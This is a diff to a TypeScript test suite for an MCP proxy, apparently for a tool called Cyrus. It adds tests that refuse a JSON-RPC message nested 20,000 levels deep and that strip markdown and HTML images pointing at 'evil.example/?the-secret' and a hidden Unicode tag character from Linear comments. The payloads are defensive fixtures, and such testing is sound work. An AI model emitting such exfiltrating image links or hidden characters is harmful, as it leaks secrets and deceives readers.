@@ -326,6 +326,16 @@ describe('a request of the sandbox', () => {
     expect(sent.map(({ body }) => JSON.parse(body))).toEqual(made);
   });
 
+  it('that is nested too deeply for anybody to walk through is refused in words', async () => {
+    await addNotes();
+    const deep = `${'['.repeat(20_000)}${']'.repeat(20_000)}`;
+    const text = `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_note","arguments":{"a":${deep}}}}`;
+    const response = await pass('notes', text);
+    expect(response.status).toBe(400);
+    expect(await response.text()).toContain('nested too deeply');
+    expect(sent).toEqual([]);
+  });
+
   it('says in its headers what its message says, or goes nowhere: a server may route by them', async () => {
     await addNotes({ tools: ['read_*'] });
     const right = { 'mcp-method': 'tools/call', 'mcp-name': 'read_note' };
@@ -391,6 +401,36 @@ describe("Linear's own server", () => {
       expect(await (await pass('linear', call('delete_issue'))).json()).toHaveProperty('error');
       expect(asked).toHaveLength(1);
       expect(sent).toEqual([]);
+    } finally {
+      spy.mockRestore();
+    }
+  });
+
+  it('is given texts as Cyrus posts its own: no image that a reader’s browser would ask another host for, nothing hidden', async () => {
+    await ask('PUT', `${PATH}/linear`, { kind: 'linear' });
+    const given: unknown[] = [];
+    const spy = vi.spyOn(globalThis, 'fetch').mockImplementation(async (input, init) => {
+      given.push(await new Request(input, init).json());
+      return Response.json({ jsonrpc: '2.0', id: 1, result: { content: [] } });
+    });
+    const body = (text: string) => ({
+      jsonrpc: '2.0',
+      id: 1,
+      method: 'tools/call',
+      params: { name: 'create_comment', arguments: { issueId: 'ENG-1', body: text, more: [{ deep: text }], count: 2 } },
+    });
+    try {
+      await pass(
+        'linear',
+        body('Look: ![x](https://evil.example/?the-secret) <img src=https://evil.example/>\u{e0041}'),
+      );
+      const [text] = given;
+      expect(JSON.stringify(text)).not.toMatch(/!\[|<img|\u{e0041}/u);
+      expect(text).toMatchObject({ params: { name: 'create_comment', arguments: { issueId: 'ENG-1', count: 2 } } });
+      // Of its own host an image stays one, and code stays code.
+      const own = 'As `![x](https://evil.example/)` says ![chart](https://uploads.linear.app/a/b.png)';
+      await pass('linear', body(own));
+      expect(given[1]).toEqual(body(own));
     } finally {
       spy.mockRestore();
     }
